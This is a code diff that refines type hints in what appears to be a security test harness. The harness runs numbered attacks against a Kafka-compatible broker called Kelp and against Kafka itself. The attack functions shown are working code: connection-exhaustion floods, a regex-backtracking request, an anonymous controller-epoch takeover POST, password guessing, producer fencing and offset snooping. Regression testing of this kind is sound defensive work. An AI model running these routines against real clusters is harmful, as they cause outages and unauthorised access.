@@ -60,14 +60,14 @@ def _host_port(address: str) -> tuple[str, int]:
 
 
 def _request_loop(target: Target, stop: threading.Event, make: Callable[[int], tuple[Any, int]],
-                  code: Callable[[int, Any], str]) -> Counter:
+                  code: Callable[[int, Any], str]) -> Counter[str]:
     """One authenticated connection sending `make(i)`'s (request, version) one after another until `stop`;
     `code(i, answer)` names the answer."""
     from kelp.kafka_client.blocking_connection import BlockingConnection
     from kelp.kafka_client.errors import KafkaClientError
 
     host, port = _host_port(target.bootstrap)
-    got: Counter = Counter()
+    got: Counter[str] = Counter()
     conn = BlockingConnection(host, port, client_id="mallory", timeout_s=REQUEST_BOUND_S, security=target.mallory)
     i = 0
     try:
@@ -85,7 +85,7 @@ def _request_loop(target: Target, stop: threading.Event, make: Callable[[int], t
 
 
 # -- the Kafka protocol ------------------------------------------------------------------------------------------
-def list_transactions_regex(target: Target, stop: threading.Event) -> Counter:
+def list_transactions_regex(target: Target, stop: threading.Event) -> Counter[str]:
     """Item 1: ListTransactions v2 with a backtracking pattern, one connection, one request after another (and
     the same pattern through `GET /admin/v1/transactions?pattern=` where there is an HTTP API)."""
     from kafka.protocol.admin import ListTransactionsRequest
@@ -110,7 +110,7 @@ def _quote(text: str) -> str:
     return quote(text, safe="")
 
 
-def produce_two_batches(target: Target, stop: threading.Event) -> Counter:
+def produce_two_batches(target: Target, stop: threading.Event) -> Counter[str]:
     """Item 9: a plain batch then a transactional batch carrying another producer's id, for one partition."""
     from kafka.protocol.producer import ProduceRequest
 
@@ -129,7 +129,7 @@ def produce_two_batches(target: Target, stop: threading.Event) -> Counter:
                          lambda _i, r: f"error {r.responses[0].partition_responses[0].error_code}")
 
 
-def init_producer_id_fence(target: Target, stop: threading.Event) -> Counter:
+def init_producer_id_fence(target: Target, stop: threading.Event) -> Counter[str]:
     """Item 10: InitProducerId without a transactional id, naming producer ids 0..63 (the honest producer's among
     them) at epoch 0: the old code answered the id named at the next epoch, fencing its owner."""
     from kafka.protocol.producer import InitProducerIdRequest
@@ -146,12 +146,12 @@ def init_producer_id_fence(target: Target, stop: threading.Event) -> Counter:
     return _request_loop(target, stop, make, code)
 
 
-def _hold_sockets(target: Target, stop: threading.Event, *, count: int, frame: bytes) -> Counter:
+def _hold_sockets(target: Target, stop: threading.Event, *, count: int, frame: bytes) -> Counter[str]:
     """`count` connections to the SASL listener, each sending `frame` (maybe nothing) and holding; one the broker
     closes is opened again, for as long as the attack lasts."""
     host, port = _host_port(target.bootstrap)
     sel = selectors.DefaultSelector()
-    got: Counter = Counter()
+    got: Counter[str] = Counter()
 
     def open_one() -> None:
         s = socket.socket()
@@ -195,20 +195,20 @@ def _hold_sockets(target: Target, stop: threading.Event, *, count: int, frame: b
     return got
 
 
-def preauth_partial_frames(target: Target, stop: threading.Event) -> Counter:
+def preauth_partial_frames(target: Target, stop: threading.Event) -> Counter[str]:
     """Item 2: 650 unauthenticated connections, each announcing a 500,000-byte frame and sending half of it."""
     frame = PREAUTH_FRAME.to_bytes(4, "big") + b"\0" * PREAUTH_SENT
     return _hold_sockets(target, stop, count=PREAUTH_CONNECTIONS, frame=frame)
 
 
-def idle_connections(target: Target, stop: threading.Event) -> Counter:
+def idle_connections(target: Target, stop: threading.Event) -> Counter[str]:
     """Item 5: 10,000 idle unauthenticated connections from one address."""
     return _hold_sockets(target, stop, count=IDLE_CONNECTIONS, frame=b"")
 
 
 # -- Kelp's HTTP API (Kafka has none) -----------------------------------------------------------------------------
 def _http_loop(target: Target, stop: threading.Event, method: str, path: str, body: Any,
-               basic: tuple[str, str] | None, got: Counter | None = None) -> Counter:
+               basic: tuple[str, str] | None, got: Counter[str] | None = None) -> Counter[str]:
     """One keep-alive HTTP connection sending the same request until `stop`; counts statuses."""
     assert target.http_url is not None
     got = got if got is not None else Counter()
@@ -235,12 +235,12 @@ def _http_loop(target: Target, stop: threading.Event, method: str, path: str, bo
     return got
 
 
-def _threads(n: int, fn: Callable[[Counter], Any]) -> Counter:
-    got: Counter = Counter()
+def _threads(n: int, fn: Callable[[Counter[str]], Any]) -> Counter[str]:
+    got: Counter[str] = Counter()
     lock = threading.Lock()
 
     def one() -> None:
-        mine: Counter = Counter()
+        mine: Counter[str] = Counter()
         fn(mine)
         with lock:
             got.update(mine)
@@ -253,31 +253,31 @@ def _threads(n: int, fn: Callable[[Counter], Any]) -> Counter:
     return got
 
 
-def cluster_metadata_takeover(target: Target, stop: threading.Event) -> Counter:
+def cluster_metadata_takeover(target: Target, stop: threading.Event) -> Counter[str]:
     """Item 3: a non-broker POSTs a controller epoch of 2^31-1 and no brokers to `/cluster/v1/metadata`."""
     body = {"controller_epoch": 2147483647, "brokers": [], "entries": []}
     return _threads(2, lambda got: _http_loop(target, stop, "POST", "/cluster/v1/metadata", body, None, got))
 
 
-def anonymous_http_admin(target: Target, stop: threading.Event) -> Counter:
+def anonymous_http_admin(target: Target, stop: threading.Event) -> Counter[str]:
     """Item 4: anonymous topic creation and listing through the HTTP admin API beside a SASL listener."""
     return _threads(2, lambda got: _http_loop(target, stop, "POST", "/admin/v1/topics", {"name": "anonymous-topic"},
                                               None, got))
 
 
-def metrics_scrape(target: Target, stop: threading.Event) -> Counter:
+def metrics_scrape(target: Target, stop: threading.Event) -> Counter[str]:
     """Item 6: `/metrics` scraped in a loop, anonymously and as an authenticated user who is no scraper."""
     return _threads(2, lambda got: (_http_loop(target, stop, "GET", "/metrics", None, None, got),
                                     _http_loop(target, stop, "GET", "/metrics", None, target.mallory_basic, got)))
 
 
-def basic_password_guessing(target: Target, stop: threading.Event) -> Counter:
+def basic_password_guessing(target: Target, stop: threading.Event) -> Counter[str]:
     """Item 7: 24 threads of HTTP Basic with wrong passwords for an existing SCRAM user."""
     return _threads(BASIC_THREADS, lambda got: _http_loop(target, stop, "GET", "/admin/v1/topics", None,
                                                           (target.victim_user, "wrong-password"), got))
 
 
-def rest_offsets_snooping(target: Target, stop: threading.Event) -> Counter:
+def rest_offsets_snooping(target: Target, stop: threading.Event) -> Counter[str]:
     """Item 8: a REST consumer instance of the attacker's own group asks the committed offsets of a topic it may
     not describe."""
     assert target.http_url is not None
@@ -293,7 +293,7 @@ def rest_offsets_snooping(target: Target, stop: threading.Event) -> Counter:
     if resp.status != 200:
         return Counter({f"create consumer: HTTP {resp.status}": 1})
     path = created["base_uri"].split(f"{port}", 1)[1]
-    got: Counter = Counter()
+    got: Counter[str] = Counter()
     offsets = {"partitions": [{"topic": target.secret_topic, "partition": 0}]}
     try:
         return _http_loop(target, stop, "GET", path + "/offsets", offsets, target.mallory_basic, got)
@@ -309,7 +309,7 @@ def rest_offsets_snooping(target: Target, stop: threading.Event) -> Counter:
 
 
 # Issue 33's numbered attacks, in the order run; the regex last (Kafka's backtracking thread may never finish).
-ATTACKS: dict[str, tuple[str, Callable[[Target, threading.Event], Counter]]] = {
+ATTACKS: dict[str, tuple[str, Callable[[Target, threading.Event], Counter[str]]]] = {
     "preauth-frames": ("2: 650 unauthenticated connections holding half a 500 kB frame", preauth_partial_frames),
     "cluster-metadata": ("3: anonymous POST /cluster/v1/metadata, epoch 2^31-1", cluster_metadata_takeover),
     "anonymous-admin": ("4: anonymous POST /admin/v1/topics", anonymous_http_admin),
